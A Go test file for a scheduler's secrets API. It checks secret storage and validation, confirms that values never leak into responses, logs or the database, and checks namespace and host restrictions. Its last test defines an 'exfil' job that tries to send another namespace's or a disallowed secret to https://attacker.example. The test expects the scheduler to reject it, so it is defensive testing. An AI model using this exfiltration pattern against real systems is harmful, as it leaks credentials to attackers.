package api

import (
	"bytes"
	"crypto/rand"
	"encoding/base64"
	"encoding/json"
	"log/slog"
	"net/http"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/schedulerhq/scheduler/internal/metrics"
	"github.com/schedulerhq/scheduler/internal/secrets"
	"github.com/schedulerhq/scheduler/internal/secrets/seal"
)

// testSecretBox is a box with a key of its own, as SCHEDULER_SECRET_KEY gives a replica.
func testSecretBox(t testing.TB) *seal.Box {
	t.Helper()
	raw := make([]byte, seal.KeySize)
	_, err := rand.Read(raw)
	require.NoError(t, err)
	k, err := seal.ParseKey(base64.StdEncoding.EncodeToString(raw))
	require.NoError(t, err)
	return seal.New(k)
}

// lockedBuffer is a log sink the server's goroutines and the test share.
type lockedBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *lockedBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *lockedBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}

// newSecretsAPI is newTeam's server with its log captured.
func newSecretsAPI(t *testing.T) (*team, *lockedBuffer) {
	t.Helper()
	tm := newTeam(t)
	logs := &lockedBuffer{}
	tm.server = NewServer(Config{DB: tm.db.DB, InstanceID: testInstance, Jobs: testJobs(t), APIToken: testToken,
		ReadToken: testReadToken, Recorder: metrics.New(), Log: slog.New(slog.NewJSONHandler(logs, &slog.HandlerOptions{Level: slog.LevelDebug})),
		Secrets: secrets.New(testSecrets, testSecretBox(t), tm.db.DB)})
	tm.http.Config.Handler = tm.server.Handler()
	return tm, logs
}

const secretValue = "s3cr3t-billing-value-that-must-not-leak"

func TestSecretsPutGetListDelete(t *testing.T) {
	t.Parallel()
	tm, logs := newSecretsAPI(t)
	var answers []response
	keep := func(r response) response { answers = append(answers, r); return r }

	res := keep(tm.as("billing-editor", "PUT", "/v1/namespaces/billing/secrets/INVOICES_TOKEN",
		`{"value": "`+secretValue+`", "allowed_hosts": ["API.billing.example.", "hooks.billing.example:8443", "api.billing.example"], "reason": "new provider"}`))
	require.Equal(t, http.StatusCreated, res.Status, "%s", res.Body)
	assert.Equal(t, "/v1/namespaces/billing/secrets/INVOICES_TOKEN", res.Header.Get("Location"))
	got := res.JSON(t)
	assert.Equal(t, float64(1), got["version"])
	assert.Equal(t, []any{"api.billing.example", "hooks.billing.example:8443"}, got["allowed_hosts"], "normalised, once each")

	res = keep(tm.as("billing-editor", "PUT", "/v1/namespaces/billing/secrets/INVOICES_TOKEN",
		`{"value": "`+secretValue+`-2", "allowed_hosts": ["api.billing.example"]}`))
	require.Equal(t, http.StatusOK, res.Status, "%s", res.Body)
	assert.Equal(t, float64(2), res.JSON(t)["version"])

	res = keep(tm.as("billing-viewer", "GET", "/v1/namespaces/billing/secrets", ""))
	require.Equal(t, http.StatusOK, res.Status)
	list := res.JSON(t)["secrets"].([]any)
	require.Len(t, list, 1)
	assert.Equal(t, map[string]any{"namespace": "billing", "name": "INVOICES_TOKEN", "version": float64(2),
		"allowed_hosts": []any{"api.billing.example"}, "created_at": list[0].(map[string]any)["created_at"],
		"updated_at": list[0].(map[string]any)["updated_at"]}, list[0])
	res = keep(tm.as("billing-viewer", "GET", "/v1/namespaces/billing/secrets/INVOICES_TOKEN", ""))
	require.Equal(t, http.StatusOK, res.Status)
	res = keep(tm.as("ops-editor", "GET", "/v1/namespaces/ops/secrets", ""))
	assert.Empty(t, res.JSON(t)["secrets"], "a namespace lists its own secrets")
	res = keep(tm.as("billing-viewer", "GET", "/v1/namespaces/billing", ""))
	assert.Equal(t, float64(1), res.JSON(t)["secrets"])

	res = keep(tm.as("billing-editor", "DELETE", "/v1/namespaces/billing/secrets/INVOICES_TOKEN", `{"reason": "provider gone"}`))
	require.Equal(t, http.StatusNoContent, res.Status)
	res = keep(tm.as("billing-editor", "DELETE", "/v1/namespaces/billing/secrets/INVOICES_TOKEN", ""))
	assert.Equal(t, http.StatusNotFound, res.Status)
	assert.Equal(t, "secret-not-found", res.problemType(t))
	res = keep(tm.as("billing-viewer", "GET", "/v1/namespaces/billing/secrets/INVOICES_TOKEN", ""))
	assert.Equal(t, http.StatusNotFound, res.Status)

	res = keep(tm.as("billing-viewer", "GET", "/v1/audit?namespace=billing", ""))
	var secretRows []map[string]any
	for _, a := range res.JSON(t)["actions"].([]any) {
		if row := a.(map[string]any); strings.HasPrefix(row["action"].(string), "secret-") {
			secretRows = append(secretRows, row)
		}
	}
	require.Len(t, secretRows, 3, "two puts and a delete, each audited")
	assert.Equal(t, "secret-delete", secretRows[0]["action"])
	assert.Equal(t, "provider gone", secretRows[0]["reason"])
	assert.Equal(t, map[string]any{"name": "INVOICES_TOKEN", "version": float64(2), "allowed_hosts": []any{"api.billing.example"}}, secretRows[0]["detail"])
	assert.Equal(t, map[string]any{"name": "INVOICES_TOKEN", "version": float64(1), "created": true,
		"allowed_hosts": []any{"api.billing.example", "hooks.billing.example:8443"}}, secretRows[2]["detail"])
	assert.Equal(t, "billing", secretRows[2]["namespace"])

	for _, r := range answers {
		assert.NotContains(t, string(r.Body), secretValue)
		for name, values := range r.Header {
			assert.NotContains(t, strings.Join(values, " "), secretValue, "header %s", name)
		}
	}
	assert.Contains(t, logs.String(), `"msg":"secret stored"`, "the log was captured")
	assert.NotContains(t, logs.String(), secretValue)
	assert.Zero(t, tm.count(`SELECT count(*) FROM scheduler_secrets WHERE position($1::bytea IN sealed) > 0`, []byte(secretValue)))
}

// Every wrong field at once; no message repeats the value.
func TestSecretPutChecksEveryField(t *testing.T) {
	t.Parallel()
	tm, _ := newSecretsAPI(t)
	hosts := make([]string, 33)
	for i := range hosts {
		hosts[i] = "h.example"
	}
	many, _ := json.Marshal(hosts)
	for body, want := range map[string][]string{
		`{"value": "", "allowed_hosts": []}`: {"value", "allowed_hosts"},
		`{"value": "` + strings.Repeat("x", 8<<10+1) + `", "allowed_hosts": ["https://a.example", "a.example/x", "*.example", "a.example:0", "ok.example"]}`: {
			"value", "allowed_hosts[0]", "allowed_hosts[1]", "allowed_hosts[2]", "allowed_hosts[3]"},
		`{"value": "a\u0000b", "allowed_hosts": ` + string(many) + `}`: {"value", "allowed_hosts"},
		`{"allowed_hosts": ["a.example"]}`:                             {"value"},
	} {
		res := tm.do("PUT", "/v1/namespaces/billing/secrets/TOKEN", body, nil)
		require.Equal(t, http.StatusUnprocessableEntity, res.Status, "%.200s: %s", body, res.Body)
		var fields []string
		for _, e := range res.JSON(t)["errors"].([]any) {
			fields = append(fields, e.(map[string]any)["field"].(string))
		}
		assert.ElementsMatch(t, want, fields, "%.200s", body)
		assert.NotContains(t, string(res.Body), strings.Repeat("x", 100))
	}
	for name, why := range map[string]string{"lower": "not a secret name", "KEY": "reserved", "BILLING_TOKEN": "operator's secret"} {
		res := tm.do("PUT", "/v1/namespaces/default/secrets/"+name, `{"value": "v", "allowed_hosts": ["a.example"]}`, nil)
		require.Equal(t, http.StatusUnprocessableEntity, res.Status, "%s: %s", name, res.Body)
		assert.Equal(t, "name", res.problemField(t))
		assert.Contains(t, string(res.Body), why)
	}
	res := tm.do("PUT", "/v1/namespaces/billing/secrets/BILLING_TOKEN", `{"value": "v", "allowed_hosts": ["a.example"]}`, nil)
	assert.Equal(t, http.StatusCreated, res.Status, "the operator's name is free in another namespace: %s", res.Body)
	res = tm.do("PUT", "/v1/namespaces/nowhere/secrets/TOKEN", `{"value": "v", "allowed_hosts": ["a.example"]}`, nil)
	assert.Equal(t, http.StatusNotFound, res.Status)
	res = tm.do("PUT", "/v1/namespaces/billing/secrets/TOKEN", `{"value": "v", "allowed_hosts": ["a.example"], "values": 1}`, nil)
	assert.Equal(t, http.StatusBadRequest, res.Status)
}

// Without SCHEDULER_SECRET_KEY a replica stores no secret and says how to make a key;
// reading names still works.
func TestSecretPutWithoutAKey(t *testing.T) {
	t.Parallel()
	tm := newTeam(t)
	tm.server = NewServer(Config{DB: tm.db.DB, InstanceID: testInstance, Jobs: testJobs(t), APIToken: testToken,
		Recorder: metrics.New(), Secrets: secrets.New(nil, seal.New(nil), tm.db.DB)})
	tm.http.Config.Handler = tm.server.Handler()
	res := tm.do("PUT", "/v1/namespaces/billing/secrets/TOKEN", `{"value": "v", "allowed_hosts": ["a.example"]}`, nil)
	require.Equal(t, http.StatusConflict, res.Status, "%s", res.Body)
	assert.Equal(t, "secret-key-missing", res.problemType(t))
	assert.Contains(t, string(res.Body), "SCHEDULER_SECRET_KEY")
	assert.Contains(t, string(res.Body), "openssl rand -base64 32")
	res = tm.do("GET", "/v1/namespaces/billing/secrets", "", nil)
	assert.Equal(t, http.StatusOK, res.Status)
	assert.Zero(t, tm.count(`SELECT count(*) FROM operator_actions WHERE action = 'secret-put'`))
}

// The attack through the API: a billing editor defines a job naming ops's secret, the
// operator's, or billing's own sent to a host it does not allow. Each is a 422 naming the
// field, with every wrong field at once; nothing is stored.
func TestDefinitionCannotUseAnotherNamespacesSecretOrAnotherHost(t *testing.T) {
	t.Parallel()
	tm, _ := newSecretsAPI(t)
	res := tm.do("PUT", "/v1/namespaces/ops/secrets/DEPLOY_TOKEN", `{"value": "ops-value", "allowed_hosts": ["attacker.example"]}`, nil)
	require.Equal(t, http.StatusCreated, res.Status, "%s", res.Body)
	res = tm.do("PUT", "/v1/namespaces/billing/secrets/INVOICES_TOKEN", `{"value": "billing-value", "allowed_hosts": ["api.billing.example"]}`, nil)
	require.Equal(t, http.StatusCreated, res.Status, "%s", res.Body)
	job := func(auth string) string {
		return `{"name": "exfil", "schedule": "0 2 * * *", "http": {"url": "https://attacker.example/x", ` + auth + `}}`
	}
	for auth, want := range map[string]string{
		`"auth": {"bearer_secret": "DEPLOY_TOKEN"}`:  "secret DEPLOY_TOKEN is not set in namespace billing: store it with PUT /v1/namespaces/billing/secrets/DEPLOY_TOKEN",
		`"auth": {"bearer_secret": "BILLING_TOKEN"}`: "secret BILLING_TOKEN is not set in namespace billing",
		`"signing_secret": "INVOICES_TOKEN"`: "secret INVOICES_TOKEN of namespace billing may be sent only to api.billing.example, " +
			"and http.url's host is attacker.example:443",
	} {
		res := tm.as("billing-editor", "POST", "/v1/namespaces/billing/jobs", job(auth))
		require.Equal(t, http.StatusUnprocessableEntity, res.Status, "%s: %s", auth, res.Body)
		assert.Contains(t, string(res.Body), want)
	}
	res = tm.as("billing-editor", "POST", "/v1/namespaces/billing/jobs",
		`{"name": "ok", "schedule": "0 2 * * *", "timeout": "soon", "http": {"url": "https://api.billing.example/x", "auth": {"bearer_secret": "DEPLOY_TOKEN"}}}`)
	require.Equal(t, http.StatusUnprocessableEntity, res.Status)
	var fields []string
	for _, e := range res.JSON(t)["errors"].([]any) {
		fields = append(fields, e.(map[string]any)["field"].(string))
	}
	assert.ElementsMatch(t, []string{"timeout", "http.auth.bearer_secret"}, fields, "every wrong field at once")
	res = tm.as("billing-editor", "POST", "/v1/namespaces/billing/jobs",
		`{"name": "ok", "schedule": "0 2 * * *", "http": {"url": "https://api.billing.example/x", "auth": {"bearer_secret": "INVOICES_TOKEN"}}}`)
	assert.Equal(t, http.StatusCreated, res.Status, "its own secret to its own host: %s", res.Body)
	res = tm.do("POST", "/v1/jobs", `{"name": "ops-default", "schedule": "0 2 * * *", "http": {"url": "https://anywhere.example/x", "auth": {"bearer_secret": "BILLING_TOKEN"}}}`, nil)
	assert.Equal(t, http.StatusCreated, res.Status, "namespace default keeps the operator's secrets, to any host: %s", res.Body)
	assert.Zero(t, tm.count(`SELECT count(*) FROM job_definitions WHERE name LIKE '%exfil%'`))
}
